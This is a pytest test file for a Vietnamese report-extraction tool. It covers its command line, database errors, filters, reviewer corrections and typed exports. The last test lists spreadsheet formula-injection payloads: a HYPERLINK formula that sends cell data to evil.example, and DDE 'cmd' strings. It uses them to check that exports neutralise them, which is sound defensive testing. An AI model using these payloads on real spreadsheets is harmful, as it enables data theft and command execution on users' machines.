"""What a data pipeline relies on (issue 13): exit codes, inputs that name nothing, databases
that do not exist, filters that select the same thing in every exported table, exported
checks that reflect reviewers' corrections, and the Python API's filter arguments."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

import baocao
from baocao.cli import main
from baocao.parsers import parse
from baocao.review.recheck import recheck
from baocao.store.db import session_scope
from baocao.store.errors import DatabaseNotFoundError, DatabaseUnavailableError, UnsupportedDatabaseError
from baocao.store.export import Filters, export_frames
from baocao.store.ingest import ingest
from baocao.store.inputs import path_pattern
from baocao.store.models import ExtractionRow, FactRow, UserRow, VersionRow
from baocao.store.repository import correct_fact, summary
from tests.conftest import DOCS, ROOT, SEEDS

pytest_plugins = ["tests.conftest_db"]

SEED_004 = SEEDS[4]  # Đắk Song district report: 17.604 = 15.739 + 1.865


def _reviewed_seed_in(url: str, value: float = 15740.0) -> None:
    """Seed 004 stored at ``url``: alice corrects 15.739 (on time) to ``value``."""
    with session_scope(url) as session:
        alice = UserRow(name="alice", role="reviewer", password_hash="x", allowed_places=[])
        session.add(alice)
        session.flush()
        fact = session.scalar(select(FactRow).where(FactRow.value == 15739.0,
                                                     FactRow.kind == "count"))
        correct_fact(session, fact, "edit", {"value": value}, actor="alice",
                     user_id=alice.id, reason="typo")


# ── ingest: exit codes and inputs that name nothing ──────────────────────────────────────

def test_ingest_exit_codes(tmp_path: Path) -> None:
    db = tmp_path / "b.db"
    runner = CliRunner()
    ok = runner.invoke(main, ["ingest", str(SEED_004), "--db", str(db), "--workers", "0",
                              "--quiet"])
    assert ok.exit_code == 0, ok.output
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.4\n1 0 obj\n<<")
    some = runner.invoke(main, ["ingest", str(SEED_004), str(broken), "--db", str(db),
                                "--workers", "0", "--quiet"])
    assert some.exit_code == 1
    assert "broken.pdf" in some.output
    typo = runner.invoke(main, ["ingest", str(SEED_004), str(tmp_path / "nosuch.pdf"),
                                "--db", str(db), "--workers", "0", "--quiet"])
    assert typo.exit_code == 2
    assert "[BC204]" in typo.output and "nosuch.pdf" in typo.output
    errors = json.loads(runner.invoke(main, ["errors", "--db", str(db), "--json"]).output)
    assert [Path(e["path"]).name for e in errors] == ["broken.pdf"]   # the typo is not recorded
    lines = runner.invoke(main, ["errors", "--db", str(db), "--jsonl"]).output.splitlines()
    assert [json.loads(x) for x in lines] == errors


def test_ingest_of_nothing_at_all_creates_no_database(tmp_path: Path) -> None:
    db = tmp_path / "never.db"
    result = CliRunner().invoke(main, ["ingest", str(tmp_path / "no-*.pdf"), "--db", str(db)])
    assert result.exit_code == 2
    assert "[BC204]" in result.output
    assert not db.exists()


def test_ctrl_c_exits_130_and_keeps_what_was_stored(tmp_path: Path) -> None:
    db = tmp_path / "c.db"
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(40):  # distinct bytes: every file is its own document
        (folder / f"r{i:02d}.txt").write_text(SEED_004.read_text(encoding="utf-8") + f"\n{i}\n",
                                              encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "baocao.cli", "ingest", str(folder), "--db",
                             str(db), "--workers", "1", "--quiet"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONUNBUFFERED": "1"})
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not (db.exists() and db.stat().st_size > 50_000):
        time.sleep(0.2)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert "rerun" in err
    rerun = CliRunner().invoke(main, ["ingest", str(folder), "--db", str(db), "--workers", "0",
                                      "--quiet"])
    assert rerun.exit_code == 0
    assert len(baocao.documents_frame(str(db))) == 40


def test_include_exclude_patterns_stay_within_folders() -> None:
    assert path_pattern("*.pdf")("/a/b/r.pdf")
    assert path_pattern("x/*.pdf")("/w/x/r.pdf")
    assert not path_pattern("x/*.pdf")("/w/x/y/r.pdf")      # '*' does not cross '/'
    assert path_pattern("x/**/*.pdf")("/w/x/y/z/r.pdf")     # '**' does
    assert path_pattern("*.zip!q1/*")("/abs/a.zip!q1/r.pdf")
    assert not path_pattern("report.pdf")("/d/myreport.pdf")


# ── read-only commands and the API refuse a database that does not exist ─────────────────

@pytest.mark.parametrize("command", [["errors"], ["export", "--format", "csv", "--out", "-"],
                                     ["users", "list"]])
def test_read_only_commands_refuse_a_missing_database(tmp_path: Path,
                                                      command: list[str]) -> None:
    typo = tmp_path / "typo.db"
    result = CliRunner().invoke(main, [*command, "--db", str(typo)])
    assert result.exit_code == 2
    assert "[BC207]" in result.output
    assert not typo.exists()


def test_api_says_what_a_database_must_be(tmp_path: Path) -> None:
    with pytest.raises(DatabaseNotFoundError):
        baocao.facts_frame(f"sqlite:///{tmp_path / 'typo.db'}")
    assert not (tmp_path / "typo.db").exists()
    with pytest.raises(DatabaseUnavailableError, match="not a SQLite database"):
        baocao.facts_frame(str(DOCS[0]))
    with pytest.raises(UnsupportedDatabaseError, match="mysql"):
        baocao.facts_frame("mysql://root@localhost/test")
    with pytest.raises(TypeError, match="unknown filter plac"):
        baocao.facts_frame(str(DOCS[0]), plac="Đắk Song")


def test_unsupported_database_url_is_one_line_not_a_traceback(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["ingest", str(SEED_004), "--db",
                                       "mysql://root@localhost/test"])
    assert result.exit_code == 2
    assert "[BC209]" in result.output and "Traceback" not in result.output


# ── filters ───────────────────────────────────────────────────────────────────────────────

def test_a_place_filter_is_one_place_in_any_spelling(db_url: str) -> None:
    ingest(SEEDS, db=db_url, workers=0, quiet=True)
    every = baocao.facts_frame(db_url)
    one = baocao.facts_frame(db_url, place="Đắk Song")
    assert 0 < len(one) < len(every)
    assert set(one["place"]) == {"Đắk Song"}
    assert len(baocao.facts_frame(db_url, place="dak song")) == len(one)
    assert len(baocao.facts_frame(db_url, place=["Đắk Song"])) == len(one)


def test_fact_filters_select_the_same_documents_and_checks_in_every_table(db_url: str) -> None:
    ingest(SEEDS, db=db_url, workers=0, quiet=True)
    every = export_frames(db_url)
    year = int(every["facts"]["period_year"].dropna().mode()[0])
    frames = export_frames(db_url, Filters(period=[str(year)]))
    kept = set(zip(frames["facts"]["document_id"], frames["facts"]["fact_key"]))
    assert 0 < len(frames["facts"]) < len(every["facts"])
    assert set(frames["documents"]["document_id"]) == set(frames["facts"]["document_id"])
    assert len(frames["checks"]) < len(every["checks"])
    for doc, keys in zip(frames["checks"]["document_id"], frames["checks"]["fact_keys"]):
        assert any((doc, k) in kept for k in str(keys).split(","))


# ── exported checks follow reviewers' corrections ─────────────────────────────────────────

def test_exported_checks_and_the_summary_reflect_corrections(db_url: str) -> None:
    ingest([SEED_004], db=db_url, workers=0, quiet=True)
    before = export_frames(db_url)["checks"]
    total = before[before["explanation"].str.contains("17.604", regex=False)]
    assert set(total["status"]) == {"pass"}
    _reviewed_seed_in(db_url, 15839.0)   # a raised digit: the parts exceed their total
    with session_scope(db_url) as session:
        extraction_id = session.scalar(select(ExtractionRow.id).join(VersionRow)
                                       .where(ExtractionRow.is_current.is_(True)))
        recheck(session, extraction_id, parse(SEED_004))
        failed_after = summary(session)["checks_failed"]
    after = export_frames(db_url)
    checks = after["checks"]
    assert bool(checks["after_review"].all())
    sums = checks[checks["explanation"].str.contains("15.839", regex=False)]
    assert "fail" in set(sums["status"])
    assert int(after["documents"]["n_checks_failed"].iloc[0]) == int((checks["status"] == "fail").sum())
    assert sum(failed_after.values()) == int((checks["status"] == "fail").sum())


# ── check: differences across documents are advice, not a red exit ───────────────────────

def test_check_exit_ignores_differences_across_documents(tmp_path: Path) -> None:
    # two reports giving one indicator of one body for one year different values: listed for
    # a reviewer, but neither document's arithmetic is wrong, so the exit status stays 0
    seed = SEEDS[0].read_text(encoding="utf-8")
    assert seed.count("99,27") == 1
    (tmp_path / "a.txt").write_text(seed, encoding="utf-8")
    (tmp_path / "b.txt").write_text(seed.replace("99,27", "98,27"), encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(tmp_path / "a.txt"), str(tmp_path / "b.txt")])
    assert "fail cross_document" in result.output
    assert "1 across documents, not counted" in result.output
    assert result.exit_code == 0
    seed_error = CliRunner().invoke(main, ["check", str(SEED_004)])
    assert seed_error.exit_code == 1


# ── typed exports: dates are dates, timestamps carry UTC ──────────────────────────────────

def _reviewed_seed(db_url: str) -> None:
    ingest([SEED_004], db=db_url, workers=0, quiet=True)
    _reviewed_seed_in(db_url)


def test_exports_write_typed_dates_and_utc_timestamps(db_url: str, tmp_path: Path) -> None:
    import openpyxl
    import pyarrow.parquet as pq

    _reviewed_seed(db_url)
    runner = CliRunner()
    for fmt in ("parquet", "csv", "jsonl", "xlsx"):
        result = runner.invoke(main, ["export", "--db", db_url, "--format", fmt, "--out",
                                      str(tmp_path / fmt)])
        assert result.exit_code == 0, result.output
    facts = pq.read_schema(tmp_path / "parquet" / "facts.parquet")
    for name in ("doc_date", "doc_date_start", "doc_date_end", "period_start", "period_end",
                 "value_date"):
        assert str(facts.field(name).type) == "date32[day]", name
    assert str(facts.field("corrected_at").type) == "timestamp[us, tz=UTC]"
    documents = pq.read_schema(tmp_path / "parquet" / "documents.parquet")
    assert str(documents.field("ingested_at").type) == "timestamp[us, tz=UTC]"
    table = pq.read_table(tmp_path / "parquet" / "facts.parquet").to_pandas()
    corrected = table[table["status"] == "corrected"].iloc[0]
    assert corrected["corrected_at"].tzinfo is not None
    deadlines = table[table["kind"] == "deadline"]
    assert len(deadlines) and deadlines["value_date"].notna().all()
    assert [str(d) for d in deadlines["value_date"]] == list(deadlines["value_text"])
    # a year or a month alone is no date, but its start, end and granularity are typed
    grains = set(table["doc_date_granularity"].dropna())
    assert grains <= {"day", "month", "year"} and grains
    row = table.iloc[0]
    if row["doc_date_granularity"] == "day":
        assert row["doc_date"] == row["doc_date_start"] == row["doc_date_end"]
    else:
        assert row["doc_date"] is None and row["doc_date_start"] < row["doc_date_end"]
    lines = (tmp_path / "jsonl" / "facts.jsonl").read_text(encoding="utf-8").splitlines()
    record = next(json.loads(x) for x in lines if json.loads(x)["kind"] == "deadline")
    assert len(record["value_date"]) == 10 and record["value_date"] == record["value_text"]
    book = openpyxl.load_workbook(tmp_path / "xlsx" / "baocao.xlsx")
    sheet = book["facts"]
    header = [c.value for c in sheet[1]]
    column = header.index("period_start")
    cells = [r[column].value for r in sheet.iter_rows(min_row=2) if r[column].value is not None]
    assert cells and all(not isinstance(v, str) for v in cells)   # Excel dates, not text
    csv = (tmp_path / "csv" / "facts.csv").read_text(encoding="utf-8").splitlines()
    assert "+00:00" in next(line for line in csv if "typo" in line)   # corrected_at in UTC


def test_the_export_schema_publishes_the_types() -> None:
    result = CliRunner().invoke(main, ["schema", "export"])
    props = json.loads(result.output)["properties"]

    def formats(name: str) -> set[str]:
        return {a.get("format") for a in props[name].get("anyOf", [props[name]])}
    assert "date" in formats("doc_date") and "date" in formats("period_start")
    assert "date-time" in formats("corrected_at")
    assert {"day", "month", "year"} <= {e for a in props["doc_date_granularity"]["anyOf"]
                                        for e in a.get("enum", [])}


# ── the same bytes at another path ────────────────────────────────────────────────────────

def test_stored_bytes_at_a_new_path_are_found_by_that_path(db_url: str, tmp_path: Path) -> None:
    first = tmp_path / "2023" / "bao-cao.docx"
    moved = tmp_path / "archive-moved" / "other-name.docx"
    for target in (first, moved):
        target.parent.mkdir(parents=True)
        target.write_bytes(next(d for d in DOCS if d.name.startswith("004_") and
                                d.suffix == ".docx").read_bytes())
    assert ingest([first], db=db_url, workers=0, quiet=True).new == 1
    report = ingest([tmp_path], db=db_url, workers=0, quiet=True)
    assert (report.new, report.skipped, report.other_paths) == (0, 2, 1)   # not read again
    again = ingest([tmp_path], db=db_url, workers=0, quiet=True)
    assert again.other_paths == 0                                          # recorded once
    documents = baocao.documents_frame(db_url)
    assert len(documents) == 1
    assert documents["other_paths"].iloc[0] == str(moved.resolve())
    by_new = export_frames(db_url, Filters(document=["other-name.docx"]))
    by_old = export_frames(db_url, Filters(document=["bao-cao.docx"]))
    assert len(by_new["facts"]) == len(by_old["facts"]) > 0
    assert len(by_new["checks"]) == len(by_old["checks"]) > 0
    assert len(by_new["documents"]) == 1
    assert export_frames(db_url, Filters(document=["nothing.docx"]))["facts"].empty


# ── --reprocess ───────────────────────────────────────────────────────────────────────────

def test_reprocess_reads_stored_files_again_beside_the_old_extraction(tmp_path: Path) -> None:
    db = tmp_path / "r.db"
    runner = CliRunner()
    args = ["ingest", str(SEED_004), "--db", str(db), "--workers", "0", "--quiet"]
    assert runner.invoke(main, args).exit_code == 0
    _reviewed_seed_in(f"sqlite:///{db}")
    assert ingest([SEED_004], db=str(db), workers=0, quiet=True).skipped == 1
    result = runner.invoke(main, [*args, "--reprocess"])
    assert result.exit_code == 0, result.output
    url = f"sqlite:///{db}"
    with session_scope(url) as session:
        extractions = session.scalars(select(ExtractionRow).order_by(ExtractionRow.id)).all()
        assert len(extractions) == 2
        assert [x.is_current for x in extractions] == [False, True]
        assert ".reprocess-" in extractions[1].extractor_version
    facts = baocao.facts_frame(url)
    corrected = facts[facts["status"] == "corrected"]
    assert list(corrected["corrected_value"]) == [15740.0]   # the correction carried over
    assert ingest([SEED_004], db=str(db), workers=0, quiet=True).skipped == 1
    usage = runner.invoke(main, [*args, "--reprocess", "--engine", "dask"])
    assert usage.exit_code == 2



def test_a_file_with_no_vietnamese_text_is_read_with_a_warning(tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "report.txt").write_text(SEED_004.read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "README.md").write_text((ROOT / "LICENSE").read_text(encoding="utf-8"),
                                      encoding="utf-8")
    result = CliRunner().invoke(main, ["run", str(folder), "--db", str(tmp_path / "w.db"),
                                       "--workers", "0"])
    assert result.exit_code == 0, result.output
    assert "1 files with no Vietnamese text" in result.output
    assert "README.md" in result.output and "report.txt" not in result.output.split(
        "no Vietnamese text")[1].split("checks failed")[0]
    excluded = CliRunner().invoke(main, ["run", str(folder), "--db", str(tmp_path / "x.db"),
                                         "--workers", "0", "--exclude", "*.md"])
    assert "no Vietnamese text" not in excluded.output
    assert "1 files: 1 new" in excluded.output


# ── terminal views fit 80 columns ─────────────────────────────────────────────────────────

def test_every_view_fits_80_columns_and_cuts_labels_at_words(monkeypatch: pytest.MonkeyPatch
                                                             ) -> None:
    from baocao.api import extract
    from baocao.render import extraction_table, number

    monkeypatch.setenv("COLUMNS", "80")
    for path in [*SEEDS, *(d for d in DOCS if d.suffix == ".docx")]:
        ex = extract(path)
        table = extraction_table(ex)
        assert max(len(line) for line in table.splitlines()) <= 80, path
        assert "e+" not in table
        texts = {f.label for f in ex.facts if f.label} | {f.unit for f in ex.facts if f.unit}
        for line in table.splitlines():
            if not line.startswith("f"):
                continue
            for piece in line.split("…")[:-1]:
                # what is shown is the first whole words of a label or unit, never a syllable
                # cut in two: the piece ends with such a prefix
                heads = {t[:k].rstrip(" ,;:–-") for t in texts for k, c in enumerate(t) if c == " "}
                assert any(h and piece.endswith(h) for h in heads), (path, line)
    assert number(8.304901e15) == "8.304.901.000.000.000"
    assert number(89.4) == "89,4" and number(17604.0) == "17.604"


def test_check_ids_stay_aligned_past_c9(monkeypatch: pytest.MonkeyPatch) -> None:
    from baocao.api import extract
    from baocao.render import extraction_table

    monkeypatch.setenv("COLUMNS", "80")
    table = extraction_table(extract(SEED_004)).split("checks:\n")[1].splitlines()
    ids = [re.match(r"c\d+ +", line) for line in table]
    assert any(m and m.group().startswith("c10") for m in ids)
    assert len({m.end() for m in ids if m}) == 1


def test_progress_off_a_terminal_is_plain_lines(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(12):
        (folder / f"r{i}.txt").write_text(SEED_004.read_text(encoding="utf-8") + f"\n{i}\n",
                                          encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "baocao.cli", "ingest", str(folder), "--db",
                          str(tmp_path / "p.db"), "--workers", "1"], capture_output=True,
                         text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert "\r" not in run.stderr
    progress = [line for line in run.stderr.splitlines() if line.startswith("ingest: ")]
    assert progress and progress[-1].startswith("ingest: 12/12 files, failed 0, checks failed")
    assert all(len(line) <= 120 for line in progress)


def test_lists_are_one_record_a_line_in_pipes_and_wrapped_on_a_terminal(
        monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from baocao.render import fold_line

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setenv("COLUMNS", "80")
    line = "report.pdf: fail sum: " + " + ".join(["1.464"] * 30) + " = 43.920 ≠ 1.836 ✗"
    assert fold_line(line, stream=io.StringIO()) == line            # grep finds it whole
    wrapped = fold_line(line, stream=Terminal()).splitlines()
    assert len(wrapped) > 1 and all(len(x) <= 80 for x in wrapped)
    assert all(x.startswith("    ") for x in wrapped[1:])
    assert " ".join(x.strip() for x in wrapped) == line


# ── the indicator ids export takes are listed ─────────────────────────────────────────────

def test_frameworks_lists_the_ids_export_takes(db_url: str) -> None:
    runner = CliRunner()
    listed = json.loads(runner.invoke(main, ["frameworks", "--json"]).output)
    ids = {i["id"] for fw in listed for i in fw["indicators"]}
    assert "par_index.cai_cach_tthc" in ids and "index_766.cong_khai_minh_bach" in ids
    assert "par_index.cai_cach_tthc" in runner.invoke(main, ["frameworks"]).output
    ingest(SEEDS, db=db_url, workers=0, quiet=True)
    used = set(baocao.facts_frame(db_url)["indicator"].dropna())
    assert used and used <= ids                      # every indicator a fact carries is listed
    one = sorted(used)[0]
    ok = runner.invoke(main, ["export", "--db", db_url, "--format", "csv", "--out", "-",
                              "--indicator", one])
    assert ok.exit_code == 0 and one in ok.output
    typo = runner.invoke(main, ["export", "--db", db_url, "--format", "csv", "--out", "-",
                                "--indicator", one[:-1]])
    assert typo.exit_code == 2 and f"did you mean {one}" in typo.output


def test_version_is_printed() -> None:
    from importlib.metadata import version

    result = CliRunner().invoke(main, ["--version"])
    assert result.exit_code == 0 and result.output.strip() == f"baocao, version {version('baocao')}"


# ── formula injection through exports (issue 15, item 1) ──────────────────────────────────

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_and_xlsx_exports_never_carry_a_live_formula(db_url: str, tmp_path: Path) -> None:
    import csv
    import io

    import openpyxl

    ingest([SEED_004], db=db_url, workers=0, quiet=True)
    with session_scope(db_url) as session:
        alice = UserRow(name="alice", role="reviewer", password_hash="x", allowed_places=[])
        session.add(alice)
        session.flush()
        facts = session.scalars(select(FactRow).where(FactRow.kind == "count")
                                .order_by(FactRow.id).limit(len(HOSTILE))).all()
        for fact, hostile in zip(facts, HOSTILE, strict=True):
            correct_fact(session, fact, "edit", {"label": hostile}, actor="alice",
                         user_id=alice.id, reason=hostile)
    runner = CliRunner()
    out = runner.invoke(main, ["export", "--db", db_url, "--format", "csv", "--out", "-"]).output
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for r in rows for v in r.values() if v]
    for hostile in HOSTILE:
        assert "'" + hostile in cells            # shown as the text it is
        assert hostile not in cells               # never a cell a spreadsheet would run
    assert not any(v.startswith(("=", "+", "@")) for v in cells)
    assert runner.invoke(main, ["export", "--db", db_url, "--format", "xlsx", "--out",
                                str(tmp_path / "x.xlsx")]).exit_code == 0
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["facts"]
    values = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert not [c for c in values if c.data_type == "f"]
    written = {c.value for c in values}
    assert set(HOSTILE) <= written                # text cells keep the text, typed as text
